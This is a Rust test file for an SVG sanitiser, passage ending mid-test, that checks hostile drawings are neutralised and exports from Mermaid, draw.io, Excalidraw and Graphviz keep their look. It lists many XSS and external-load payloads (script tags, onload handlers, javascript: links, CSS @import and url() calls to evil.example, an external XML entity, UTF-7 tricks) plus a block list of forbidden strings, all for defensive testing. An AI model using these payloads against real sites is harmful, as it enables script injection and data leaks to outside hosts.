//! SVG drawings before they are published: hostile ones become harmless, ordinary ones keep their look.

#![expect(clippy::unwrap_used, reason = "a panic fails the test")]

use rationale::svg::{Refused, cleaned};

/// The namespaces that nearly every drawing declares.
const NS: &str =
    "xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"";

/// The start of every sanitised drawing.
const ROOT: &str =
    "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"";

/// The sanitised content of `<svg …>`.
#[track_caller]
fn inside(text: &str) -> String {
    let all = cleaned(format!("<svg {NS}>{text}</svg>").as_bytes()).unwrap();
    let rest = all.strip_prefix(ROOT).unwrap().trim_end();
    match rest.strip_prefix('>') {
        Some(rest) => rest.strip_suffix("</svg>").unwrap().to_owned(),
        None => String::new(),
    }
}

/// Texts that no published drawing may contain, in lower case.
const NEVER: &[&str] = &[
    "alert(1)",
    "evil.example",
    "javascript:",
    "vbscript:",
    "<script",
    ":script",
    "foreignobject",
    "<!",
    "<?",
    "@import",
    "@namespace",
    "<iframe",
    "<embed",
    "<object",
    "<set",
    "<animate",
    "<handler",
    "<listener",
    "<feimage",
    "<a ",
    "<a>",
    "<discard",
    "data:text",
    "data:image/svg",
    "xml:base",
    "xml-stylesheet",
    "\\",
    "expression",
    "image-set",
    "src(",
    "behavior",
    "-moz-binding",
    "url(http",
    "url(//",
    "url(data:text",
    " on",
    "<metadata",
    "<html",
    "<body",
    "<div",
    "<img",
    "<link",
    "<base",
    "<video",
    "<audio",
    "<meta",
    "<use h t",
];

#[track_caller]
fn check(drawing: &[u8]) {
    let Ok(published) = cleaned(drawing) else { return };
    let lower = published.to_lowercase();
    for never in NEVER {
        assert!(
            !lower.contains(never),
            "{never:?} in {published}\nof {}",
            String::from_utf8_lossy(drawing)
        );
    }
    // Sanitising is idempotent.
    assert_eq!(cleaned(published.as_bytes()).as_ref(), Ok(&published));
}

/// Content for `<svg …>`. Each of them would call `alert(1)`, or load something from `evil.example`.
const HOSTILE: &[&str] = &[
    // Scripts, under every name.
    "<script>alert(1)</script>",
    "<script><![CDATA[alert(1)]]></script>",
    "<script href=\"https://evil.example/x.js\"/>",
    "<script xlink:href=\"data:text/javascript,alert(1)\"/>",
    "<s:script xmlns:s=\"http://www.w3.org/2000/svg\">alert(1)</s:script>",
    "<\u{3001}:script xmlns:\u{3001}=\"http://www.w3.org/2000/svg\">alert(1)</\u{3001}:script>",
    "<b\u{b7}:script xmlns:b\u{b7}=\"http://www.w3.org/2000/svg\">alert(1)</b\u{b7}:script>",
    "<h:script xmlns:h=\"http://www.w3.org/1999/xhtml\">alert(1)</h:script>",
    "<script xmlns=\"http://www.w3.org/1999/xhtml\">alert(1)</script>",
    "<x:script xmlns:x=\"http://www.w3.org/2000/&#115;vg\">alert(1)</x:script>",
    "<g><g><script type=\"text/ecmascript\">alert(1)</script></g></g>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<handler xmlns=\"http://www.w3.org/2001/xml-events\" event=\"load\">alert(1)</handler>",
    "<ev:listener xmlns:ev=\"http://www.w3.org/2001/xml-events\" event=\"load\" handler=\"#x\"/><handler id=\"x\">alert(1)</handler>",
    // Handlers.
    "<g onload=\"alert(1)\"/>",
    "<rect ONCLICK=\"alert(1)\" onclick=\"alert(1)\" width=\"9\" height=\"9\"/>",
    "<g\nonload\n=\n'alert(1)'/>",
    "<g onload=\"&#97;lert(1)\"/>",
    "<g x:onload=\"alert(1)\" xmlns:x=\"http://www.w3.org/2000/svg\"/>",
    "<text onmouseover=\"alert(1)\">a</text>",
    "<style onload=\"alert(1)\">a{fill:red}</style>",
    "<title onfocus=\"alert(1)\" tabindex=\"1\">a</title>",
    "<image href=\"x\" onerror=\"alert(1)\"/>",
    "<path d=\"M0 0\" onbegin=\"alert(1)\" onend=\"alert(1)\" onrepeat=\"alert(1)\"/>",
    // Addresses.
    "<a href=\"javascript:alert(1)\"><text>a</text></a>",
    "<a xlink:href=\"java&#10;script:alert(1)\"><rect width=\"9\" height=\"9\"/></a>",
    "<a xlink:href=\"https://evil.example/\" target=\"_top\"><circle r=\"4\"/></a>",
    "<text>a<a href=\" javascript:alert(1)\">b</a></text>",
    "<use href=\"data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'>&lt;script>alert(1)&lt;/script>&lt;/svg>#x\"/>",
    "<use xlink:href=\"https://evil.example/x.svg#x\"/>",
    "<use l:href=\"https://evil.example/x.svg#x\" xmlns:l=\"http://www.w3.org/1999/xlink\"/>",
    "<image href=\"https://evil.example/x.png\"/>",
    "<image xlink:href=\"data:image/svg+xml;base64,PHN2Zy8+\"/>",
    "<image href=\"data:text/html,&lt;script>alert(1)&lt;/script>\"/>",
    "<image href=\"data:image/png;base64,AAAA&quot; onload=&quot;alert(1)\"/>",
    "<image href=\"javascript:alert(1)\"/>",
    "<filter id=\"f\"><feImage href=\"https://evil.example/x.png\"/></filter>",
    "<pattern id=\"p\" href=\"https://evil.example/x.svg#p\"/>",
    "<linearGradient id=\"p\" xlink:href=\"//evil.example/x.svg#p\"/>",
    "<textPath href=\"https://evil.example/x.svg#p\">a</textPath>",
    "<tref xlink:href=\"https://evil.example/x.svg#t\"/>",
    "<g xml:base=\"https://evil.example/\"><use href=\"#x\"/></g>",
    "<rect fill=\"url(https://evil.example/x.svg#p)\"/>",
    "<rect fill=\"url( '//evil.example/x.svg#p' )\" stroke=\"URL(https://evil.example)\"/>",
    "<g filter=\"url(data:image/svg+xml,%3Csvg/%3E#f)\" mask=\"url(https://evil.example#m)\"/>",
    "<g cursor=\"url(https://evil.example/x.cur), auto\"/>",
    "<color-profile name=\"x\" xlink:href=\"https://evil.example/x.icc\"/>",
    "<cursor id=\"c\" xlink:href=\"https://evil.example/x.png\"/>",
    "<font><font-face><font-face-src><font-face-uri xlink:href=\"https://evil.example/f\"/></font-face-src></font-face></font>",
    // Animations.
    "<set attributeName=\"onload\" to=\"alert(1)\"/>",
    "<a><set attributeName=\"href\" to=\"javascript:alert(1)\"/><text>a</text></a>",
    "<a id=\"a\"><animate attributeName=\"href\" values=\"javascript:alert(1)\"/><rect width=\"9\" height=\"9\"/></a>",
    "<animate xlink:href=\"#a\" attributeName=\"xlink:href\" from=\"javascript:alert(1)\" to=\"x\" begin=\"0s\"/>",
    "<animateTransform onbegin=\"alert(1)\" attributeName=\"transform\" type=\"rotate\"/>",
    "<animateMotion path=\"M0 0\" onend=\"alert(1)\"/>",
    "<discard begin=\"0s\" onbegin=\"alert(1)\"/>",
    // Styles.
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>@import url(https://evil.example/x.css);a{fill:red}</style>",
    "<style>@\\69mport 'https://evil.example/x.css';</style>",
    "<style>a{fill:\\75rl(https://evil.example)}</style>",
    "<style>a{fill:u\\72l('https://evil.example')}</style>",
    "<style>a{fill:url(/**/https://evil.example)}</style>",
    "<style>a{background:url(https://evil.example/x.png)}</style>",
    "<style>a{background:image-set('https://evil.example/x.png' 1x)}</style>",
    "<style>a{background:-webkit-image-set(url(https://evil.example/x.png) 1x)}</style>",
    "<style>a{background:src('https://evil.example/x.png')}</style>",
    "<style>a{background:image('https://evil.example/x.png')}</style>",
    "<style>a{background:cross-fade(url(https://evil.example/x.png), red)}</style>",
    "<style>a{--x:url(https://evil.example/x.png);fill:var(--x)}</style>",
    "<style>@font-face{font-family:f;src:url(https://evil.example/f.woff2)}text{font-family:f}</style>",
    "<style>@font-face{font-family:f;src:url(data:text/html;base64,AAAA)}</style>",
    "<style>@font-face{font-family:f;src:local(x),url(\"//evil.example/f\") format('woff2')}</style>",
    "<style>@namespace url(https://evil.example);a{fill:red}</style>",
    "<style>a{width:expression(alert(1))}</style>",
    "<style>a{behavior:url(#x);-moz-binding:url(https://evil.example#x)}</style>",
    "<style><![CDATA[a{fill:red}]]>]]&gt;&lt;/style>&lt;script>alert(1)&lt;/script></style>",
    "<style>a{fill:red}&lt;/style>&lt;script>alert(1)&lt;/script></style>",
    "<style><script>alert(1)</script></style>",
    "<style>a[href^='\\\"]{}@import\"https://evil.example\";{x:'\\\"']{fill:red}</style>",
    "<style>@media screen{@import url(https://evil.example);b{background:url(https://evil.example)}}</style>",
    "<style type=\"text/html\">alert(1)</style>",
    "<style media=\"&quot;>&lt;script>alert(1)&lt;/script>\">a{fill:red}</style>",
    "<g style=\"fill:url(https://evil.example)\"/>",
    "<g style=\"background:image-set('https://evil.example/x' 1x)\"/>",
    "<g style=\"fill:red;background:u\\rl(https://evil.example)\"/>",
    "<g style=\"list-style-image:url('https://evil.example')\"/>",
    "<g style='x:\"; fill:url(https://evil.example)'/>",
    "<g style=\"fill:url(&#104;ttps://evil.example)\"/>",
    // Languages other than SVG.
    "<foreignObject width=\"9\" height=\"9\"><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"javascript:alert(1)\"/></foreignObject>",
    "<foreignObject width=\"9\" height=\"9\"><body xmlns=\"http://www.w3.org/1999/xhtml\" onload=\"alert(1)\"><script>alert(1)</script>a</body></foreignObject>",
    "<foreignObject width=\"9\" height=\"9\"><div xmlns=\"http://www.w3.org/1999/xhtml\"><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/></div></foreignObject>",
    "<foreignObject width=\"9\" height=\"9\"><embed xmlns=\"http://www.w3.org/1999/xhtml\" src=\"https://evil.example\"/></foreignObject>",
    "<foreignObject><math xmlns=\"http://www.w3.org/1998/Math/MathML\"><maction actiontype=\"statusline#\" xlink:href=\"javascript:alert(1)\">a</maction></math></foreignObject>",
    "<switch><foreignObject><script xmlns=\"http://www.w3.org/1999/xhtml\">alert(1)</script></foreignObject></switch>",
    "<h:img xmlns:h=\"http://www.w3.org/1999/xhtml\" src=\"x\" onerror=\"alert(1)\"/>",
    "<h:link xmlns:h=\"http://www.w3.org/1999/xhtml\" rel=\"stylesheet\" href=\"https://evil.example\"/>",
    "<h:meta xmlns:h=\"http://www.w3.org/1999/xhtml\" http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\"/>",
    "<h:base xmlns:h=\"http://www.w3.org/1999/xhtml\" href=\"https://evil.example/\"/>",
    "<iframe src=\"javascript:alert(1)\"/><audio src=\"https://evil.example\"/><video><source src=\"https://evil.example\"/></video>",
    "<x:stylesheet xmlns:x=\"http://www.w3.org/1999/XSL/Transform\"><x:template>alert(1)</x:template></x:stylesheet>",
    "<metadata><script>alert(1)</script></metadata>",
    "<desc><script>alert(1)</script></desc><title><script>alert(1)</script>a</title>",
    "<desc><![CDATA[</desc><script>alert(1)</script>]]></desc>",
    "<title><![CDATA[</title><script>alert(1)</script>]]></title>",
    "<unknown onload=\"alert(1)\">alert(1)<rect/></unknown>",
    // Comments, CDATA sections and processing instructions.
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "<?php alert(1) ?>",
    "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "&lt;script>alert(1)&lt;/script>",
];

/// Whole files.
const FILES: &[&str] = &[
    "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
    "<svg onload=alert(1)>",
    "<!DOCTYPE svg [<!ATTLIST svg onload CDATA \"alert(1)\">]><svg xmlns=\"http://www.w3.org/2000/svg\"/>",
    "<!DOCTYPE svg [<!ENTITY x \"<script>alert(1)</script>\">]><svg xmlns=\"http://www.w3.org/2000/svg\">&x;</svg>",
    "<!DOCTYPE svg SYSTEM \"x\"[<!ENTITY % y SYSTEM \"https://evil.example\">%y;]><svg xmlns=\"http://www.w3.org/2000/svg\"/>",
    "<?xml version=\"1.0\" encoding=\"ISO-2022-JP\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><scr\u{1b}(Bipt>alert(1)</scr\u{1b}(Bipt></svg>",
    "<?xml version=\"1.0\" encoding=\"UTF-7\"?><svg xmlns=\"http://www.w3.org/2000/svg\">+ADw-script+AD4-alert(1)+ADw-/script+AD4-</svg>",
    "<?xml version=\"1.1\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><scr&#0;ipt>alert(1)</scr&#0;ipt></svg>",
    "<?xml-stylesheet type=\"text/xsl\" href=\"data:text/xml,alert(1)\"?><svg xmlns=\"http://www.w3.org/2000/svg\"/>",
    "<?xml-stylesheet href=\"https://evil.example/x.css\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><rect/></svg>",
    "<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></html>",
    "<s:svg xmlns:s=\"http://www.w3.org/2000/svg\"><s:script>alert(1)</s:script><s:rect onclick=\"alert(1)\"/></s:svg>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\"/><script>alert(1)</script>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\"/><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\"><g></svg>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 9 9&quot; onload=&quot;alert(1)\"/>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\" id=\"&quot;>&lt;script>x&lt;/script>\"/>",
    "<svg><script>alert(1)</script></svg>",
];

#[test]
fn no_hostile_drawing_does_anything() {
    for text in HOSTILE {
        check(format!("<svg {NS}>{text}</svg>").as_bytes());
        // Valid content around it does not help the attack.
        check(
            format!("<svg {NS}><defs><g id=\"x\">{text}</g></defs><use href=\"#x\"/></svg>")
                .as_bytes(),
        );
    }
    for file in FILES {
        check(file.as_bytes());
    }
    for text in HOSTILE.iter().chain(FILES) {
        let wide: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let marked = [b"\xFF\xFE".as_slice(), &wide].concat();
        assert_eq!(cleaned(&marked), Err(Refused::Encoding));
    }
}

#[test]
fn what_cannot_be_shown_says_why() {
    for (file, expected) in [
        (
            "<?xml version=\"1.0\" encoding=\"UTF-16\"?><svg xmlns=\"http://www.w3.org/2000/svg\"/>",
            Refused::Encoding,
        ),
        ("<!DOCTYPE svg [ ]><svg xmlns=\"http://www.w3.org/2000/svg\"/>", Refused::Declares),
        ("<html/>", Refused::OtherRoot),
        ("<svg xmlns=\"https://evil.example\"/>", Refused::OtherRoot),
        ("<svg xmlns=\"http://www.w3.org/2000/svg\">", Refused::Malformed),
        ("<svg xmlns=\"http://www.w3.org/2000/svg\"><text>&nbsp;</text></svg>", Refused::Malformed),
        ("<svg xmlns=\"http://www.w3.org/2000/svg\"><text>&#8;</text></svg>", Refused::Malformed),
        ("<svg xmlns=\"http://www.w3.org/2000/svg\"><text>\u{1}</text></svg>", Refused::Malformed),
        (
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>&#x+41;</text></svg>",
            Refused::Malformed,
        ),
        (" <?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"/>", Refused::Malformed),
        ("", Refused::Malformed),
        ("a", Refused::Malformed),
    ] {
        assert_eq!(cleaned(file.as_bytes()), Err(expected), "{file}");
    }
    let long = "a ".repeat(200);
    let long = format!("<foreignObject width=\"1\" height=\"9e9\">{long}</foreignObject>");
    let refused = |text: &str| cleaned(format!("<svg {NS}>{text}</svg>").as_bytes()).unwrap_err();
    assert_eq!(refused("<image href=\"a.png\"/>"), Refused::Loads);
    assert_eq!(refused("<use href=\"icons.svg#a\"/>"), Refused::Loads);
    assert_eq!(refused(&long), Refused::Labels);
    let table = "<table xmlns=\"http://www.w3.org/1999/xhtml\"/>";
    assert_eq!(refused(&format!("<foreignObject>{table}</foreignObject>")), Refused::Labels);
}

#[test]
fn size_is_bounded() {
    let nested = |depth: usize| format!("{}{}", "<g>".repeat(depth), "</g>".repeat(depth));
    assert!(cleaned(format!("<svg {NS}>{}</svg>", nested(127)).as_bytes()).is_ok());
    for text in [nested(128), "<g/>".repeat(200_000), format!("<g {}/>", "a=\"\" ".repeat(300))] {
        assert_eq!(cleaned(format!("<svg {NS}>{text}</svg>").as_bytes()), Err(Refused::Large));
    }
    // Ten parts, each ten times as large as the previous one.
    let tens = (1..10).map(|at| {
        let part = format!("<use href=\"#a{}\"/>", at - 1).repeat(10);
        format!("<g id=\"a{at}\">{part}</g>")
    });
    let tens = format!("<svg {NS}><rect id=\"a0\"/>{}</svg>", tens.collect::<String>());
    assert_eq!(cleaned(tens.as_bytes()), Err(Refused::Large));
    let round = format!(
        "<svg {NS}><g id=\"a\"><use href=\"#a\"/></g><path id=\"b\" fill=\"url(#b)\"/></svg>"
    );
    assert!(cleaned(round.as_bytes()).is_ok());
}

#[test]
fn what_is_seen_stays_and_what_is_not_goes() {
    assert_eq!(
        inside(
            "<!-- a --><g id=\"a\" class=\"b\" data-x=\"1\" tabindex=\"0\"> <rect x='1' y=\"2\" fill='#fff'/> </g>"
        ),
        "<g id=\"a\" class=\"b\"><rect x=\"1\" y=\"2\" fill=\"#fff\"/></g>"
    );
    assert_eq!(
        inside(
            "<text xml:space=\"preserve\">a  &lt;b&gt; &amp; <tspan dy=\"1em\">&#xe4;<![CDATA[<c>]]></tspan></text>"
        ),
        "<text xml:space=\"preserve\">a  &lt;b&gt; &amp; <tspan dy=\"1em\">ä&lt;c&gt;</tspan></text>"
    );
    assert_eq!(inside("<title>A&#45;&gt;B</title><desc>d</desc>"), "<title>A-&gt;B</title>");
    assert_eq!(
        inside("<a xlink:href=\"https://a.example\"><rect/></a><text><a href=\"x\">y</a></text>"),
        "<g><rect/></g><text><tspan>y</tspan></text>"
    );
    assert_eq!(
        inside(
            "<style>/* a */ .a , g > .b:not(.c) { fill : url( '#p' ) ; x-y: 1; stroke: rgb(1, 2, 3) !important }</style>"
        ),
        "<style>.a , g &gt; .b:not(.c){fill:url(#p);stroke:rgb(1, 2, 3) !important}</style>"
    );
    assert_eq!(
        inside(
            "<style>@media (prefers-color-scheme: dark) { a { fill: #fff } } @keyframes k { to { x: 1 } } @font-face { font-family: F; src: url(https://a.example/f), url('data:font/woff2;base64,AAAA') format(\"woff2\") }</style>"
        ),
        "<style>@media (prefers-color-scheme: dark){a{fill:#fff}}@font-face{font-family:F;src:url(data:font/woff2;base64,AAAA) format(\"woff2\");}</style>"
    );
    assert_eq!(
        inside("<image width=\"1\" xlink:href=\"data:image/PNG;base64,iVBO Rw0K\"/>"),
        "<image width=\"1\" xlink:href=\"data:image/png;base64,iVBORw0K\"/>"
    );
    assert_eq!(
        inside("<g style=\"fill:none;stroke:#000;-x:1;marker-end:url(&quot;#m&quot;)\"/>"),
        "<g style=\"fill:none;stroke:#000;marker-end:url(#m)\"/>"
    );
}

/// Mermaid's output for a flowchart, with labels in HTML.
#[test]
fn a_drawing_of_mermaid_looks_as_before() {
    let html = "xmlns=\"http://www.w3.org/1999/xhtml\"";
    let drawing = format!(
        "<svg id=\"d\" width=\"100%\" {NS} class=\"flowchart\" style=\"max-width: 220px; background-color: white;\" viewBox=\"0 0 220 70\" role=\"graphics-document document\" aria-roledescription=\"flowchart-v2\">\
         <style>#d{{font-family:\"trebuchet ms\",verdana,sans-serif;font-size:16px;fill:#333;}}@keyframes dash{{to{{stroke-dashoffset:0;}}}}#d .label text{{fill:#333;}}#d .node rect{{fill:#ECECFF;stroke:#9370DB;stroke-width:1px;}}#d p{{margin:0;}}</style>\
         <g><marker id=\"d_end\" class=\"marker\" viewBox=\"0 0 10 10\" refX=\"5\" refY=\"5\" markerUnits=\"userSpaceOnUse\" markerWidth=\"8\" markerHeight=\"8\" orient=\"auto\"><path d=\"M 0 0 L 10 5 L 0 10 z\" style=\"stroke-width: 1; stroke-dasharray: 1, 0;\"/></marker>\
         <path d=\"M90,35L120,35\" id=\"L_A_B\" class=\"edge-pattern-solid\" data-id=\"L_A_B\" marker-end=\"url(#d_end)\"/>\
         <g class=\"edgeLabel\"><foreignObject width=\"0\" height=\"0\"><div {html}><span class=\"edgeLabel\"></span></div></foreignObject></g>\
         <g class=\"node\" transform=\"translate(50, 35)\"><rect class=\"basic\" x=\"-40\" y=\"-20\" width=\"80\" height=\"40\"/><g class=\"label\" transform=\"translate(-20, -12)\"><rect/><foreignObject width=\"40\" height=\"24\"><div style=\"display: table-cell; white-space: nowrap;\" {html}><span class=\"nodeLabel\"><p>Read &amp; <b>parse</b></p></span></div></foreignObject></g></g></g></svg>"
    );
    let expected = format!(
        "{ROOT} id=\"d\" width=\"100%\" class=\"flowchart\" style=\"max-width:220px;background-color:white\" viewBox=\"0 0 220 70\" role=\"graphics-document document\" aria-roledescription=\"flowchart-v2\">\
         <style>#d{{font-family:\"trebuchet ms\",verdana,sans-serif;font-size:16px;fill:#333}}#d .label text{{fill:#333}}#d .node rect{{fill:#ECECFF;stroke:#9370DB;stroke-width:1px}}#d p{{margin:0}}</style>\
         <g><marker id=\"d_end\" class=\"marker\" viewBox=\"0 0 10 10\" refX=\"5\" refY=\"5\" markerUnits=\"userSpaceOnUse\" markerWidth=\"8\" markerHeight=\"8\" orient=\"auto\"><path d=\"M 0 0 L 10 5 L 0 10 z\" style=\"stroke-width:1;stroke-dasharray:1, 0\"/></marker>\
         <path d=\"M90,35L120,35\" id=\"L_A_B\" class=\"edge-pattern-solid\" marker-end=\"url(#d_end)\"/>\
         <g class=\"edgeLabel\"/>\
         <g class=\"node\" transform=\"translate(50, 35)\"><rect class=\"basic\" x=\"-40\" y=\"-20\" width=\"80\" height=\"40\"/><g class=\"label\" transform=\"translate(-20, -12)\"><rect/><text x=\"20\" y=\"12\" text-anchor=\"middle\" dominant-baseline=\"central\"><tspan x=\"20\" dy=\"0.0em\">Read &amp; parse</tspan></text></g></g></g></svg>\n"
    );
    assert_eq!(cleaned(drawing.as_bytes()), Ok(expected));
}

#[test]
fn labels_of_several_lines_stay_several() {
    let label = |height: u32, words: &str| {
        inside(&format!(
            "<foreignObject x=\"10\" y=\"5\" width=\"100\" height=\"{height}\"><div xmlns=\"http://www.w3.org/1999/xhtml\">{words}</div></foreignObject>"
        ))
    };
    let start = "<text x=\"60\" y=\"29\" text-anchor=\"middle\" dominant-baseline=\"central\">";
    let two = format!(
        "{start}<tspan x=\"60\" dy=\"-0.6em\">One two</tspan><tspan x=\"60\" dy=\"1.2em\">three four</tspan></text>"
    );
    assert_eq!(label(48, "<p>One two<br/>three four</p>"), two);
    assert_eq!(label(48, "One two three four"), two);
}

/// draw.io's output: HTML, with a fallback text.
#[test]
fn a_drawing_of_draw_io_shows_its_other_labels() {
    let drawing = format!(
        "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">\n\
         <svg {NS} style=\"background: #ffffff; background-color: light-dark(#ffffff, var(--ge-dark-color, #121212)); color-scheme: light dark;\" version=\"1.1\" width=\"121px\" height=\"61px\" viewBox=\"-0.5 -0.5 121 61\" content=\"&lt;mxfile&gt;&lt;/mxfile&gt;\"><defs/><g><g data-cell-id=\"2\">\
         <rect x=\"0\" y=\"0\" width=\"120\" height=\"60\" fill=\"#ffffff\" stroke=\"#000000\" pointer-events=\"all\" style=\"fill: light-dark(#ffffff, #121212); stroke: light-dark(rgb(0, 0, 0), rgb(255, 255, 255));\"/>\
         <g transform=\"translate(-0.5 -0.5)\"><switch><foreignObject style=\"overflow: visible; text-align: left;\" pointer-events=\"none\" width=\"100%\" height=\"100%\" requiredFeatures=\"http://www.w3.org/TR/SVG11/feature#Extensibility\"><div xmlns=\"http://www.w3.org/1999/xhtml\" style=\"display: flex; width: 118px\"><div>Store</div></div></foreignObject><text x=\"60\" y=\"34\" fill=\"#000000\" font-family=\"Helvetica\" font-size=\"12px\" text-anchor=\"middle\">Store</text></switch></g></g></g>\
         <switch><g requiredFeatures=\"http://www.w3.org/TR/SVG11/feature#Extensibility\"/><a transform=\"translate(0,-5)\" xlink:href=\"https://www.drawio.com/doc/faq/svg-export-text-problems\" target=\"_blank\"><text text-anchor=\"middle\" font-size=\"10px\" x=\"50%\" y=\"100%\">Text is not SVG</text></a></switch></svg>"
    );
    let expected = format!(
        "{ROOT} style=\"background:#ffffff;background-color:light-dark(#ffffff, var(--ge-dark-color, #121212));color-scheme:light dark\" version=\"1.1\" width=\"121px\" height=\"61px\" viewBox=\"-0.5 -0.5 121 61\"><defs/><g><g>\
         <rect x=\"0\" y=\"0\" width=\"120\" height=\"60\" fill=\"#ffffff\" stroke=\"#000000\" pointer-events=\"all\" style=\"fill:light-dark(#ffffff, #121212);stroke:light-dark(rgb(0, 0, 0), rgb(255, 255, 255))\"/>\
         <g transform=\"translate(-0.5 -0.5)\"><switch><text x=\"60\" y=\"34\" fill=\"#000000\" font-family=\"Helvetica\" font-size=\"12px\" text-anchor=\"middle\">Store</text></switch></g></g></g>\
         <switch><g/><g transform=\"translate(0,-5)\"><text text-anchor=\"middle\" font-size=\"10px\" x=\"50%\" y=\"100%\">Text is not SVG</text></g></switch></svg>\n"
    );
    assert_eq!(cleaned(drawing.as_bytes()), Ok(expected));
}

/// Excalidraw's output: fonts and a picture are embedded in the drawing.
#[test]
fn a_drawing_of_excalidraw_keeps_its_font() {
    let font = "@font-face { font-family: Hand; src: url(data:font/woff2;base64,d09GMg==); }";
    let drawing = format!(
        "<svg version=\"1.1\" {NS} viewBox=\"0 0 90 40\" width=\"90\" height=\"40\"><!-- svg-source:excalidraw --><metadata><!-- payload-start -->eyJ2<!-- payload-end --></metadata><defs><style class=\"style-fonts\">{font}</style></defs><rect x=\"0\" y=\"0\" width=\"90\" height=\"40\" fill=\"#ffffff\"></rect><g stroke-linecap=\"round\" transform=\"translate(10 10) rotate(0 35 10)\"><path d=\"M0.5 0.4 C20 -1, 40 2, 70 0\" stroke=\"#1e1e1e\" stroke-width=\"2\" fill=\"none\"></path></g><mask></mask><g transform=\"translate(20 12)\"><text x=\"0\" y=\"14\" font-family=\"Hand, Segoe UI Emoji\" font-size=\"16px\" fill=\"#1e1e1e\" text-anchor=\"start\" style=\"white-space: pre;\" direction=\"ltr\" dominant-baseline=\"alphabetic\">Store</text></g><image width=\"9\" height=\"9\" href=\"data:image/jpeg;base64,/9j/\"></image></svg>"
    );
    let expected = format!(
        "{ROOT} version=\"1.1\" viewBox=\"0 0 90 40\" width=\"90\" height=\"40\"><defs><style>@font-face{{font-family:Hand;src:url(data:font/woff2;base64,d09GMg==);}}</style></defs><rect x=\"0\" y=\"0\" width=\"90\" height=\"40\" fill=\"#ffffff\"/><g stroke-linecap=\"round\" transform=\"translate(10 10) rotate(0 35 10)\"><path d=\"M0.5 0.4 C20 -1, 40 2, 70 0\" stroke=\"#1e1e1e\" stroke-width=\"2\" fill=\"none\"/></g><mask/><g transform=\"translate(20 12)\"><text x=\"0\" y=\"14\" font-family=\"Hand, Segoe UI Emoji\" font-size=\"16px\" fill=\"#1e1e1e\" text-anchor=\"start\" style=\"white-space:pre\" direction=\"ltr\" dominant-baseline=\"alphabetic\">Store</text></g><image width=\"9\" height=\"9\" href=\"data:image/jpeg;base64,/9j/\"/></svg>\n"
    );
    assert_eq!(cleaned(drawing.as_bytes()), Ok(expected));
}

/// Graphviz's output: a DOCTYPE without declarations, and links.
#[test]
fn a_drawing_of_graphviz_looks_as_before() {
    let drawing = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"no\"?>\n<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\"\n \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">\n<!-- Generated by graphviz -->\n<svg width=\"62pt\" height=\"44pt\"\n viewBox=\"0.00 0.00 62.00 44.00\" {NS}>\n<g id=\"graph0\" class=\"graph\" transform=\"scale(1 1) rotate(0) translate(4 40)\">\n<title>G</title>\n<polygon fill=\"white\" stroke=\"none\" points=\"-4,4 -4,-40 58,-40 58,4 -4,4\"/>\n<g id=\"node1\" class=\"node\">\n<title>a&#45;&gt;b</title>\n<g id=\"a_node1\"><a xlink:href=\"a.html\" xlink:title=\"a\">\n<ellipse fill=\"none\" stroke=\"black\" cx=\"27\" cy=\"-18\" rx=\"27\" ry=\"18\"/>\n<text text-anchor=\"middle\" x=\"27\" y=\"-13.8\" font-family=\"Times,serif\" font-size=\"14.00\">a</text>\n</a>\n</g>\n</g>\n</g>\n</svg>\n"
    );
    let expected = format!(
        "{ROOT} width=\"62pt\" height=\"44pt\" viewBox=\"0.00 0.00 62.00 44.00\"><g id=\"graph0\" class=\"graph\" transform=\"scale(1 1) rotate(0) translate(4 40)\"><title>G</title><polygon fill=\"white\" stroke=\"none\" points=\"-4,4 -4,-40 58,-40 58,4 -4,4\"/><g id=\"node1\" class=\"node\"><title>a-&gt;b</title><g id=\"a_node1\"><g><ellipse fill=\"none\" stroke=\"black\" cx=\"27\" cy=\"-18\" rx=\"27\" ry=\"18\"/><text text-anchor=\"middle\" x=\"27\" y=\"-13.8\" font-family=\"Times,serif\" font-size=\"14.00\">a</text></g></g></g></g></svg>\n"
    );
    assert_eq!(cleaned(drawing.as_bytes()), Ok(expected));
}

/// `PlantUML`'s output: processing instructions with the source, and sizes in styles.
#[test]
fn a_drawing_of_plantuml_looks_as_before() {
    let drawing = format!(
